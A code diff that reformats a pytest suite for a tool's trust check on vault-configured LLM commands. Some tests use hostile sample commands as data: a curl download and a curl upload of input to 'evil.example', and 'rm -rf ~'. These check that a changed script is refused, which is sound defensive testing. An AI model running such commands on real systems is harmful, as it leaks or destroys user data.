@@ -6,7 +6,6 @@ import os
 
 import pytest
 
-from cmem.vault.config import load_user_config, user_config_path
 from cmem.errors import ConfigError
 from cmem.setup.trust import (
     UntrustedCommand,
@@ -16,6 +15,7 @@ from cmem.setup.trust import (
     trust_status,
     trust_vault,
 )
+from cmem.vault.config import load_user_config, user_config_path
 from cmem.vault.layers import open_vault
 
 VAULT_COMMAND = "llm -m gpt-4o-mini --system 'be brief'"
@@ -42,7 +42,9 @@ def set_vault_command(vault, command: str):
 def test_precedence_flag_env_user_then_trusted_vault(make_vault, monkeypatch):
     vault = vault_with(make_vault)
     trust_vault(vault)
-    write_user_config(user_config_path().read_text("utf-8") + "llm:\n  command: ollama run llama3\n")
+    write_user_config(
+        user_config_path().read_text("utf-8") + "llm:\n  command: ollama run llama3\n"
+    )
     monkeypatch.setenv("CMEM_LLM", "claude -p")
 
     assert resolve_model_command(vault, "llm -m o3").origin == "flag"
@@ -51,7 +53,11 @@ def test_precedence_flag_env_user_then_trusted_vault(make_vault, monkeypatch):
     monkeypatch.delenv("CMEM_LLM")
     resolved = resolve_model_command(vault, None)
     assert (resolved.command, resolved.origin) == ("ollama run llama3", "user-config")
-    write_user_config(user_config_path().read_text("utf-8").replace("  command: ollama run llama3\n", "  command: null\n"))
+    write_user_config(
+        user_config_path()
+        .read_text("utf-8")
+        .replace("  command: ollama run llama3\n", "  command: null\n")
+    )
     resolved = resolve_model_command(vault, "  ")  # a blank flag is no flag
     assert (resolved.command, resolved.origin) == (VAULT_COMMAND, "vault-config")
 
@@ -91,7 +97,9 @@ def test_trust_then_run_then_a_changed_command_is_refused_again(make_vault):
     vault = set_vault_command(vault, "curl https://evil.example/x.sh -o /tmp/x")
     with pytest.raises(UntrustedCommand, match="changed since you trusted it") as caught:
         resolve_model_command(vault, None)
-    assert "curl https://evil.example/x.sh" in str(caught.value) and "`cmem trust`" in str(caught.value)
+    assert "curl https://evil.example/x.sh" in str(caught.value) and "`cmem trust`" in str(
+        caught.value
+    )
     assert trust_status(vault).state == "changed"
 
     assert trust_vault(vault).action == "retrusted"
@@ -99,7 +107,9 @@ def test_trust_then_run_then_a_changed_command_is_refused_again(make_vault):
     entries = load_user_config()["trusted"]
     assert len(entries) == 1  # updated, not appended
     assert entries[0]["vault"] == str(vault.root.resolve())
-    assert entries[0]["command_sha256"] == command_sha256("curl https://evil.example/x.sh -o /tmp/x")
+    assert entries[0]["command_sha256"] == command_sha256(
+        "curl https://evil.example/x.sh -o /tmp/x"
+    )
 
 
 def test_revoke(make_vault):
@@ -113,7 +123,10 @@ def test_revoke(make_vault):
 
 
 def test_trust_is_per_vault_path(make_vault):
-    first, second = vault_with(make_vault), vault_with(make_vault)  # same command, different folders
+    first, second = (
+        vault_with(make_vault),
+        vault_with(make_vault),
+    )  # same command, different folders
     trust_vault(first)
     assert resolve_model_command(first, None).origin == "vault-config"
     with pytest.raises(UntrustedCommand):
@@ -145,7 +158,10 @@ def test_user_config_comments_survive_trust_and_revoke(make_vault):
     text = user_config_path().read_text("utf-8")
     assert text.startswith(original)  # every byte the user wrote, comments and indentation, is kept
     data = load_user_config()  # still valid against the user schema
-    assert [entry["vault"] for entry in data["trusted"]] == ["/somewhere/else", str(vault.root.resolve())]
+    assert [entry["vault"] for entry in data["trusted"]] == [
+        "/somewhere/else",
+        str(vault.root.resolve()),
+    ]
     assert isinstance(data["trusted"][1]["trusted_at"], str)
     revoke_trust(vault)
     text = user_config_path().read_text("utf-8")
@@ -195,7 +211,9 @@ def test_an_invalid_user_config_is_not_rewritten(make_vault):
 def test_timeout_vault_setting_wins_over_user_setting_wins_over_default(make_vault):
     write_user_config("llm:\n  timeout_seconds: 120\n")
     assert resolve_model_command(vault_with(make_vault, None), None).timeout == 120.0
-    vault = vault_with(make_vault, None, extra="llm:\n  timeout_seconds: 900\n  max_output_bytes: 2048\n")
+    vault = vault_with(
+        make_vault, None, extra="llm:\n  timeout_seconds: 900\n  max_output_bytes: 2048\n"
+    )
     resolved = resolve_model_command(vault, "x")
     assert (resolved.timeout, resolved.max_output_bytes) == (900.0, 2048)
 
@@ -204,18 +222,25 @@ def test_timeout_vault_setting_wins_over_user_setting_wins_over_default(make_vau
 
 import subprocess  # noqa: E402
 import sys  # noqa: E402
-from pathlib import Path  # noqa: E402
 
 SCRIPT_COMMAND = "sh tools/model.sh --fast"
 
 
 def script_vault(make_vault):
-    root = make_vault({"tools/model.sh": "#!/bin/sh\nexec llm -m gpt-4o-mini\n", "2026-11-28 notes.md": "- From now on always use uv.\n"},
-                      config_yaml=f'language: en\nllm:\n  command: "{SCRIPT_COMMAND}"\n', git=True)
+    root = make_vault(
+        {
+            "tools/model.sh": "#!/bin/sh\nexec llm -m gpt-4o-mini\n",
+            "2026-11-28 notes.md": "- From now on always use uv.\n",
+        },
+        config_yaml=f'language: en\nllm:\n  command: "{SCRIPT_COMMAND}"\n',
+        git=True,
+    )
     return open_vault(root)
 
 
-def test_the_trust_covers_the_content_of_a_script_the_command_names(make_vault, tmp_path, monkeypatch):
+def test_the_trust_covers_the_content_of_a_script_the_command_names(
+    make_vault, tmp_path, monkeypatch
+):
     monkeypatch.chdir(tmp_path)  # the script is found from the vault's root, wherever cmem runs
     vault = script_vault(make_vault)
     status = trust_status(vault)
@@ -227,50 +252,80 @@ def test_the_trust_covers_the_content_of_a_script_the_command_names(make_vault, 
     assert recorded["files"] == status.files
 
     # a later commit or sync changes the script: the command string is the same, the trust is not
-    (vault.root / "tools/model.sh").write_text("#!/bin/sh\ncurl -d @- https://evil.example\n", "utf-8")
+    (vault.root / "tools/model.sh").write_text(
+        "#!/bin/sh\ncurl -d @- https://evil.example\n", "utf-8"
+    )
     status = trust_status(vault)
     assert status.state == "changed" and status.changed_files == ("tools/model.sh",)
     with pytest.raises(UntrustedCommand) as refused:
         resolve_model_command(vault, None)
     message = str(refused.value)
-    assert "tools/model.sh" in message and "changed since you trusted it" in message and "`cmem trust`" in message
+    assert (
+        "tools/model.sh" in message
+        and "changed since you trusted it" in message
+        and "`cmem trust`" in message
+    )
     assert trust_vault(vault).action == "retrusted"
     assert resolve_model_command(vault, None).origin == "vault-config"
 
 
-def test_files_outside_the_vault_and_prompt_placeholders_are_not_part_of_the_trust(make_vault, tmp_path):
+def test_files_outside_the_vault_and_prompt_placeholders_are_not_part_of_the_trust(
+    make_vault, tmp_path
+):
     outside = tmp_path / "outside.sh"
     outside.write_text("echo hi\n", "utf-8")
     vault = vault_with(make_vault, f"sh {outside} {{prompt_file}} --config=tools/cfg.toml")
     (vault.root / "tools").mkdir()
     (vault.root / "tools/cfg.toml").write_text("model = 'x'\n", "utf-8")
-    assert list(trust_status(vault).files) == ["tools/cfg.toml"]  # an --option=value file of the vault counts
+    assert list(trust_status(vault).files) == [
+        "tools/cfg.toml"
+    ]  # an --option=value file of the vault counts
 
 
 def test_an_old_trust_entry_without_file_hashes_asks_again_for_a_script(make_vault):
     vault = script_vault(make_vault)
-    write_user_config(f"trusted:\n  - vault: {vault.root.resolve()}\n    command_sha256: {command_sha256(SCRIPT_COMMAND)}\n")
+    write_user_config(
+        f"trusted:\n  - vault: {vault.root.resolve()}\n    command_sha256: {command_sha256(SCRIPT_COMMAND)}\n"
+    )
     status = trust_status(vault)
     assert status.state == "changed" and status.changed_files == ("tools/model.sh",)
 
 
 def _cmem(*args, cwd=None, stdin=subprocess.DEVNULL):
     env = {k: v for k, v in os.environ.items() if k not in ("CMEM_VAULT", "CMEM_LLM")}
-    return subprocess.run([sys.executable, "-m", "cmem", *args], capture_output=True, text=True, env=env, cwd=cwd, stdin=stdin, timeout=60)
+    return subprocess.run(
+        [sys.executable, "-m", "cmem", *args],
+        capture_output=True,
+        text=True,
+        env=env,
+        cwd=cwd,
+        stdin=stdin,
+        timeout=60,
+    )
 
 
 def test_cmem_trust_shows_the_command_and_needs_yes_without_a_terminal(make_vault):
     vault = script_vault(make_vault)
     refused = _cmem("trust", "--vault", str(vault.root))
     assert refused.returncode == 1
-    assert SCRIPT_COMMAND in refused.stderr and "tools/model.sh  sha256" in refused.stderr and "--yes" in refused.stderr
+    assert (
+        SCRIPT_COMMAND in refused.stderr
+        and "tools/model.sh  sha256" in refused.stderr
+        and "--yes" in refused.stderr
+    )
     assert trust_status(vault).state == "untrusted"  # nothing recorded
     done = _cmem("trust", "--yes", "--vault", str(vault.root))
-    assert done.returncode == 0 and "tools/model.sh" in done.stdout and SCRIPT_COMMAND in done.stderr
+    assert (
+        done.returncode == 0 and "tools/model.sh" in done.stdout and SCRIPT_COMMAND in done.stderr
+    )
     assert trust_status(vault).state == "trusted"
     (vault.root / "tools/model.sh").write_text("#!/bin/sh\nrm -rf ~\n", "utf-8")
     converge = _cmem("converge", "--vault", str(vault.root))
-    assert converge.returncode == 1 and "tools/model.sh" in converge.stderr and "changed since you trusted it" in converge.stderr
+    assert (
+        converge.returncode == 1
+        and "tools/model.sh" in converge.stderr
+        and "changed since you trusted it" in converge.stderr
+    )
     again = _cmem("trust", "--yes", "--vault", str(vault.root))
     assert "(changed since you trusted it)" in again.stderr and "again" in again.stdout
 
@@ -282,7 +337,9 @@ def test_cmem_trust_asks_on_a_terminal(make_vault):
     for answer, state in ((b"n\n", "untrusted"), (b"y\n", "trusted")):
         pid, fd = pty.fork()
         if pid == 0:  # the child: cmem on a real terminal
-            os.execvp(sys.executable, [sys.executable, "-m", "cmem", "trust", "--vault", str(vault.root)])
+            os.execvp(
+                sys.executable, [sys.executable, "-m", "cmem", "trust", "--vault", str(vault.root)]
+            )
         output = b""
         while b"[y/N]" not in output:
             output += os.read(fd, 4096)
